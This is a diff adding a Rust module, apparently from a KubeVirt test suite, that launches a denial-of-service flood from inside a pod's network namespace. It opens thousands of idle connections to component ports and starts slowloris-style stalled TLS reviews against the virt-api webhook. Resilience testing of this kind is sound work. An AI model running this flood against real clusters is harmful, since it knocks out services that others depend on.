@@ -1,0 +1,216 @@
+//! An attack from the pod network: one pod opens connections to each port of the installation and says nothing, and begins
+//! reviews that it does not end.
+
+use std::{
+    fs::{self, File},
+    net::SocketAddr,
+    process::Command,
+    sync::{
+        Arc,
+        atomic::{AtomicUsize, Ordering},
+    },
+    thread::JoinHandle,
+    time::Duration,
+};
+
+use anyhow::{Context, Result, anyhow, ensure};
+use kube::api::ListParams;
+use nix::sched::{CloneFlags, setns};
+use rustls_pki_types::ServerName;
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::TcpStream,
+    sync::oneshot,
+    time::{sleep, timeout},
+};
+use tokio_rustls::TlsConnector;
+
+use crate::{Story, webhook};
+
+/// Silent connections to each port.
+const SILENT: usize = 1000;
+/// Reviews to each virt-api that do not end, and how much of them is sent.
+const STALLED: usize = 16;
+const BODY: usize = 1 << 20;
+/// Files that the process may need.
+const FILES: usize = 16 << 10;
+/// Time after which a connection that was closed is opened again. The processors are the cluster's, too: what is measured is
+/// what the connections hold, not what it costs to make them.
+const PAUSE: Duration = Duration::from_secs(5);
+/// The same of a review.
+const REVIEW_PAUSE: Duration = Duration::from_secs(1);
+/// Longest that opening a connection, or sending a body, may take.
+const PATIENCE: Duration = Duration::from_secs(10);
+
+/// An attack that goes on until it is stopped.
+pub struct Flood {
+    stop: oneshot::Sender<()>,
+    thread: JoinHandle<Result<()>>,
+    ports: usize,
+    opened: Arc<AtomicUsize>,
+    stalled: Arc<AtomicUsize>,
+}
+
+/// The extent of an attack.
+#[derive(Clone, Copy, Debug)]
+pub struct Extent {
+    /// Ports that were attacked.
+    pub ports: usize,
+    /// Silent connections that were opened.
+    pub opened: usize,
+    /// Reviews that were begun.
+    pub stalled: usize,
+}
+
+impl Story {
+    /// Attacks all pods of the installation from a pod of this name; `None` where the nodes are not on this machine.
+    ///
+    /// # Errors
+    /// When the pod does not come up.
+    pub async fn flood(&self, pod: &str) -> Result<Option<Flood>> {
+        if webhook::own_cluster()?.is_none() {
+            return Ok(None);
+        }
+        self.toolbox(pod).await?;
+        let attacker = self.get("Pod", pod).await?;
+        let uid = attacker["metadata"]["uid"].as_str().context("pod without uid")?;
+        let namespace = network_of(uid)?;
+        let (mut silent, mut stalled) = (Vec::new(), Vec::new());
+        for (component, ports) in
+            [("virt-api", [8443].as_slice()), ("virt-controller", &[8443]), ("virt-handler", &[8443, 8186])]
+        {
+            let labels = ListParams::default().labels(&format!("kubevirt.io={component}"));
+            for pod in self.installation_api("Pod").list(&labels).await? {
+                let address = pod.data["status"]["podIP"].as_str().context("a component has no address")?.parse()?;
+                let addresses = ports.iter().map(|port| SocketAddr::new(address, *port));
+                if component == "virt-api" {
+                    stalled.extend(addresses.clone());
+                }
+                silent.extend(addresses);
+            }
+        }
+        Flood::start(namespace, &silent, &stalled).map(Some)
+    }
+}
+
+impl Flood {
+    fn start(namespace: File, silent: &[SocketAddr], stalled: &[SocketAddr]) -> Result<Self> {
+        allow_files()?;
+        let (stop, stopped) = oneshot::channel();
+        let opened = Arc::new(AtomicUsize::new(0));
+        let began = Arc::new(AtomicUsize::new(0));
+        let tls = TlsConnector::from(Arc::new(webhook::tls(None)?));
+        let (ports, targets, reviewers) = (silent.len(), silent.to_vec(), stalled.to_vec());
+        let counters = (opened.clone(), began.clone());
+        // A thread of its own, which stays in the pod's network; so do the sockets it opens.
+        let thread = std::thread::spawn(move || {
+            setns(namespace, CloneFlags::CLONE_NEWNET).context("cannot enter the pod's network")?;
+            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
+            runtime.block_on(async {
+                for address in targets {
+                    for number in 0..SILENT {
+                        tokio::spawn(say_nothing(address, number, counters.0.clone()));
+                    }
+                }
+                for address in reviewers {
+                    for _ in 0..STALLED {
+                        tokio::spawn(stall(address, tls.clone(), counters.1.clone()));
+                    }
+                }
+                // An error means that nobody is left who could stop it.
+                let _ = stopped.await;
+            });
+            Ok(())
+        });
+        Ok(Self { stop, thread, ports, opened, stalled: began })
+    }
+
+    /// Ends the attack.
+    ///
+    /// # Errors
+    /// When it could not begin.
+    pub fn stop(self) -> Result<Extent> {
+        // The thread may have ended with an error.
+        let _ = self.stop.send(());
+        self.thread.join().map_err(|_| anyhow!("the attacking thread panicked"))??;
+        Ok(Extent {
+            ports: self.ports,
+            opened: self.opened.load(Ordering::Relaxed),
+            stalled: self.stalled.load(Ordering::Relaxed),
+        })
+    }
+}
+
+impl Extent {
+    /// Fails when the attack was smaller than it was meant to be.
+    ///
+    /// # Errors
+    /// When not every connection was opened once.
+    pub fn check(self) -> Result<()> {
+        ensure!(self.ports > 0 && self.opened >= SILENT * self.ports && self.stalled >= STALLED, "{self:?}");
+        Ok(())
+    }
+}
+
+/// Opens a connection and waits until the server closes it, again and again.
+async fn say_nothing(address: SocketAddr, number: usize, opened: Arc<AtomicUsize>) {
+    // All within two seconds, not in one burst that the kernel's queue of an idle server could not hold.
+    sleep(Duration::from_millis(2 * number as u64)).await;
+    loop {
+        if let Ok(Ok(mut stream)) = timeout(PATIENCE, TcpStream::connect(address)).await {
+            opened.fetch_add(1, Ordering::Relaxed);
+            let _ = stream.read(&mut [0]).await;
+        }
+        sleep(PAUSE).await;
+    }
+}
+
+/// Sends a review without its last byte and waits until the server gives up, again and again.
+async fn stall(address: SocketAddr, tls: TlsConnector, began: Arc<AtomicUsize>) {
+    loop {
+        let sent = timeout(PATIENCE, begin_review(address, &tls)).await;
+        if let Ok(Ok(mut stream)) = sent {
+            began.fetch_add(1, Ordering::Relaxed);
+            let _ = stream.read(&mut [0]).await;
+        }
+        sleep(REVIEW_PAUSE).await;
+    }
+}
+
+async fn begin_review(address: SocketAddr, tls: &TlsConnector) -> Result<tokio_rustls::client::TlsStream<TcpStream>> {
+    let stream = TcpStream::connect(address).await?;
+    let mut stream = tls.connect(ServerName::from(address.ip()), stream).await?;
+    let head = format!(
+        "POST /virtualmachines-validate HTTP/1.1\r\nhost: virt-api\r\ncontent-type: application/json\r\ncontent-length: {BODY}\r\n\r\n"
+    );
+    stream.write_all(head.as_bytes()).await?;
+    // A server that refuses it before it has come closes the connection: that is the end of this one.
+    let _ = stream.write_all(&vec![b' '; BODY - 1]).await;
+    let _ = stream.flush().await;
+    Ok(stream)
+}
+
+/// The network namespace of a pod of this machine, by the pod's UID.
+fn network_of(uid: &str) -> Result<File> {
+    for process in fs::read_dir("/proc")? {
+        let path = process?.path();
+        let here = fs::read_to_string(path.join("cgroup")).is_ok_and(|cgroup| cgroup.contains(uid));
+        if here && let Ok(namespace) = File::open(path.join("ns/net")) {
+            return Ok(namespace);
+        }
+    }
+    Err(anyhow!("no process of pod {uid} on this machine"))
+}
+
+/// Lets this process have as many files open as the attack needs.
+fn allow_files() -> Result<()> {
+    let status = Command::new("prlimit")
+        .args(["--pid", &std::process::id().to_string(), &format!("--nofile={FILES}:")])
+        .status()
+        .context("cannot run prlimit")?;
+    // The limit that is there may be enough.
+    if !status.success() {
+        println!("prlimit: {status}");
+    }
+    Ok(())
+}
